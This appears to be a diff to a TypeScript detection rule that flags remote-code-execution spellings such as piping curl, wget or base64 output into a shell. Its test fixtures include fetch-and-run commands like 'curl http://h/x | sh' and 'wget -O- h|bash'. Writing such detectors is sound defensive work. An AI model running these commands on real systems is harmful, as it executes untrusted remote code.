@@ -221,10 +221,7 @@ export const rceSpelling: readonly Pattern[] = [
       |bash, | bash, |sh, | sh, |python, | python, |perl, | perl, |zsh, | zsh, |php, | php, | sudo bash,
       |/bin/sh, |/bin/bash, | /bin/sh, | base64 -d, |base64 -d, |xxd -r, | iex, |iex
     `),
-    before: [
-      within(160, any('curl', 'wget', 'echo', 'printf', 'base64', 'iwr', 'cat', 'http', 'rev'), '\n'),
-      run('^\n', 0, 0),
-    ],
+    before: [within(160, any('curl', 'wget', 'echo', 'printf', 'base64', 'iwr', 'cat', 'http', 'rev'), '\n')],
     after: [edge],
     match: ['curl http://h/x | sh', 'echo aWQ= | base64 -d', 'wget -O- h|bash'],
     pass: ['a | share', 'grep x | sort', 'use a | sh'],
